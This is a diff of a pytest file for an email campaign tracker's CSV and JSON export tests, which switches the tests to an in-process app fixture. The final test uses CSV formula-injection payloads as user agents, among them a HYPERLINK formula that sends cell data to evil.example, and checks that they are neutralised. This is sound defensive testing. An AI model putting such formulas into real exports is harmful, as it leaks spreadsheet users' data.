@@ -11,7 +11,8 @@ from typing import Any
 
 import pytest
 
-from tests.helpers import Server, cli
+from tests.helpers import cli
+from tests.inprocess import InProcess
 from tests.traffic import build_campaign, settled_report
 
 
@@ -22,13 +23,13 @@ def parse(text: str, fmt: str) -> list[dict[str, Any]]:
 
 
 @pytest.mark.parametrize("fmt", ["csv", "json"])
-def test_exports_round_trip(tracked: Server, tmp_path: Path, fmt: str) -> None:
-    cid, m = build_campaign(tracked, f"export-{fmt}")
-    settled_report(tracked, cid)
-    want = {e["id"]: e for one in m.values() for e in tracked.events(one["id"])}
+def test_exports_round_trip(tracked_app: InProcess, tmp_path: Path, fmt: str) -> None:
+    cid, m = build_campaign(tracked_app, f"export-{fmt}")
+    settled_report(tracked_app, cid)
+    want = {e["id"]: e for one in m.values() for e in tracked_app.events(one["id"])}
     assert len(want) == 16
 
-    r = tracked.api(
+    r = tracked_app.api(
         "GET", f"/api/v1/campaigns/{cid}/export", params={"what": "events", "format": fmt}
     )
     assert r.status_code == 200, r.text
@@ -53,7 +54,7 @@ def test_exports_round_trip(tracked: Server, tmp_path: Path, fmt: str) -> None:
         fmt,
         "--out",
         str(out),
-        db=tracked.db,
+        db=tracked_app.db,
     )
     rows = {r["recipient"].split("@")[0]: r for r in parse(out.read_text(), fmt)}
     assert set(rows) == {"h1", "h2", "g1", "g2", "g3", "a1", "a2", "s1", "b1"}
@@ -71,25 +72,23 @@ def test_exports_round_trip(tracked: Server, tmp_path: Path, fmt: str) -> None:
         fmt,
         "--out",
         str(ev_file),
-        db=tracked.db,
+        db=tracked_app.db,
     )
     assert sorted(int(e["id"]) for e in parse(ev_file.read_text(), fmt)) == sorted(want)
 
 
-def test_export_of_an_empty_campaign_and_bad_input(tracked: Server) -> None:
-    cid = tracked.api("POST", "/api/v1/campaigns", json={"name": "empty"}).json()["id"]
+def test_export_of_an_empty_campaign_and_bad_input(tracked_app: InProcess) -> None:
+    cid = tracked_app.api("POST", "/api/v1/campaigns", json={"name": "empty"}).json()["id"]
     for fmt, body in (("json", []), ("csv", None)):
-        r = tracked.api("GET", f"/api/v1/campaigns/{cid}/export", params={"format": fmt})
+        r = tracked_app.api("GET", f"/api/v1/campaigns/{cid}/export", params={"format": fmt})
         assert r.status_code == 200
         if body is not None:
             assert json.loads(r.text) == body
         else:
             assert r.text.splitlines()[0].startswith("id,message_id,recipient")
-    assert (
-        tracked.api("GET", f"/api/v1/campaigns/{cid}/export", params={"format": "xml"}).status_code
-        == 422
-    )
-    assert tracked.api("GET", "/api/v1/campaigns/424242/export").status_code == 404
+    xml = tracked_app.api("GET", f"/api/v1/campaigns/{cid}/export", params={"format": "xml"})
+    assert xml.status_code == 422
+    assert tracked_app.api("GET", "/api/v1/campaigns/424242/export").status_code == 404
 
 
 @pytest.mark.parametrize(
@@ -114,20 +113,20 @@ def test_csv_cells_never_start_a_formula(value: Any, cell: Any) -> None:
 
 
 def test_csv_export_neutralises_a_formula_in_a_user_agent(
-    tracked: Server, tmp_path: Path
+    tracked_app: InProcess, tmp_path: Path
 ) -> None:
     from tests.traffic import hit
 
-    cid = tracked.api("POST", "/api/v1/campaigns", json={"name": "formula"}).json()["id"]
-    msg = tracked.message(recipient="=1+2@example.org", campaign_id=cid)
+    cid = tracked_app.api("POST", "/api/v1/campaigns", json={"name": "formula"}).json()["id"]
+    msg = tracked_app.message(recipient="=1+2@example.org", campaign_id=cid)
     evil = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)", "-2+3", "+cmd"]
     for ua in evil:
         hit(msg["open_url"], "198.51.100.20", ua)
     out = tmp_path / "events.csv"
-    cli("export", "formula", "--format", "csv", "--out", str(out), db=tracked.db)
+    cli("export", "formula", "--format", "csv", "--out", str(out), db=tracked_app.db)
     got = parse(out.read_text(), "csv")
     assert sorted(r["user_agent"] for r in got) == sorted("'" + ua for ua in evil)
     assert {r["recipient"] for r in got} == {"'=1+2@example.org"}
     # JSON keeps the value exactly as it came: only spreadsheets run formulas.
-    r = tracked.api("GET", f"/api/v1/campaigns/{cid}/export", params={"format": "json"})
+    r = tracked_app.api("GET", f"/api/v1/campaigns/{cid}/export", params={"format": "json"})
     assert sorted(e["user_agent"] for e in r.json()) == sorted(evil)
